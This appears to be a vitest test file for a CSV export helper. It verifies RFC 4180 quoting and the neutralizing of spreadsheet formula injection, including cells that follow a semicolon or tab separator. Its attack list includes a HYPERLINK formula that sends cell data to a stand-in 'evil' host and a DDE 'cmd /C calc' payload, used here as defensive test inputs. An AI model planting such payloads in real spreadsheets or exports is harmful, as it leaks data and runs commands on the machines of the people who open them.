import { describe, expect, it } from 'vitest'
import { parseCsv } from '../../test/csv-reader.js'
import { csvField, csvRecord, neutralizeFormula } from './csv.js'

/** One record as a reader reads it back. */
const parseRecord = (line: string): string[] => parseCsv(`${line}\r\n`)[0] ?? []

describe('csvField', () => {
  it('writes numbers and empty values bare, text quoted', () => {
    expect(csvField('alice')).toBe('"alice"')
    expect(csvField(42)).toBe('42')
    expect(csvField(null)).toBe('')
    expect(csvField(undefined)).toBe('')
    expect(csvField('')).toBe('""')
  })

  it('quotes fields holding a quote, a comma, CR or LF, and doubles inner quotes (RFC 4180)', () => {
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('line\nbreak')).toBe('"line\nbreak"')
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"')
    expect(csvField('{"a":1,"b":"x"}')).toBe('"{""a"":1,""b"":""x""}"')
  })

  it('neutralizes every OWASP formula start with a leading quote mark', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const field = csvField(`${start}1+2`)
      const cell = parseRecord(field)[0] ?? ''
      expect(cell.startsWith("'"), JSON.stringify(start)).toBe(true)
      expect(cell).toBe(`'${start}1+2`)
    }
  })

  it('an attacker-chosen username or user agent never comes out starting with = or @', () => {
    const attacks: Array<[string, string]> = [
      ['=HYPERLINK("http://evil/?"&A1,"Click")', `'=HYPERLINK("http://evil/?"&A1,"Click")`],
      ['@SUM(1)', "'@SUM(1)"],
      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
      ['-2+3', "'-2+3"],
      ['=1+2";@1+2', `'=1+2";'@1+2`],
      // TAB is itself a separator (a tab-separated import), so the `=` after it is neutralized.
      ['\t=1+2', "'\t'=1+2"],
      ['\r=1+2', "'\r'=1+2"],
    ]
    for (const [attack, expected] of attacks) {
      const field = csvField(attack)
      // Neither the raw text nor the cell a spreadsheet reads after unquoting starts a formula.
      expect(field, attack).not.toMatch(/^"?[=+\-@\t\r]/)
      const [cell] = parseRecord(field)
      expect(cell, attack).toBe(expected)
    }
  })

  it('leaves a formula character inside the text alone', () => {
    expect(neutralizeFormula('a=b')).toBe('a=b')
    expect(neutralizeFormula('alice@example.com')).toBe('alice@example.com')
    expect(neutralizeFormula("'=already")).toBe("'=already")
  })
})

describe('csvRecord', () => {
  it('joins fields with commas and ends with CRLF', () => {
    expect(csvRecord(['a', 1, null, 'b,c'])).toBe('"a",1,,"b,c"\r\n')
    expect(csvRecord([])).toBe('\r\n')
  })

  it('reads back field by field, whatever the fields hold', () => {
    const values = ['x', 'a,b', 'q"q', 'multi\nline', '=SUM(A1)', '']
    const line = csvRecord(values)
    expect(line.endsWith('\r\n')).toBe(true)
    expect(parseRecord(line.slice(0, -2))).toEqual([
      'x',
      'a,b',
      'q"q',
      'multi\nline',
      "'=SUM(A1)",
      '',
    ])
  })
})

/**
 * issue #13 item 4: Excel in a locale whose list separator is `;` splits a comma-separated line
 * at every `;`, quoted or not, so a formula after a `;` inside a cell became a cell of its own.
 */
describe('issue #13 item 4: a formula after a separator', () => {
  /** What a reader that splits on `sep` (and line ends) and ignores quoting sees as cells. */
  const naiveCells = (line: string, sep: string): string[] =>
    line.split(/\r\n|\r|\n/).flatMap((row) => row.split(sep))
  const startsFormula = (cell: string): boolean => /^[ "]*[=+\-@]/.test(cell)

  it('no separator inside a cell is followed by a formula start, for any reader', () => {
    const attacks = [
      'x;=2+5;y',
      'x,=2+5,y',
      'x\t=2+5\ty',
      'x\n=2+5',
      'x\r\n@SUM(1)',
      'x;"=2+5";y',
      'x; -2+3',
      'x;+cmd',
      'a;;=1',
    ]
    for (const attack of attacks) {
      const line = csvRecord([1, attack, 'plain'])
      for (const sep of [',', ';', '\t']) {
        for (const cell of naiveCells(line, sep)) {
          expect(startsFormula(cell), `${JSON.stringify(attack)} split on ${sep}: ${cell}`).toBe(
            false,
          )
        }
      }
      // An RFC 4180 reader gets the text back with a `'` before each neutralized start.
      const [, text] = parseRecord(line.slice(0, -2))
      expect(text?.replaceAll("'", ''), attack).toBe(attack.replaceAll("'", ''))
    }
    expect(parseRecord(csvRecord(['x;=2+5;y']).slice(0, -2))).toEqual(["x;'=2+5;y"])
  })

  it('quotes every text cell, numbers and empty values stay bare', () => {
    expect(csvRecord([1, 'alice', '', null, undefined, 'a b'])).toBe('1,"alice","",,,"a b"\r\n')
    expect(csvField('2026-12-01T06:15:00.000Z')).toBe('"2026-12-01T06:15:00.000Z"')
  })

  it('leaves separators followed by ordinary text alone', () => {
    expect(csvField('Mozilla/5.0 (X11; Linux x86_64)')).toBe('"Mozilla/5.0 (X11; Linux x86_64)"')
    expect(csvField('{"a":1,"b":"x"}')).toBe('"{""a"":1,""b"":""x""}"')
  })
})
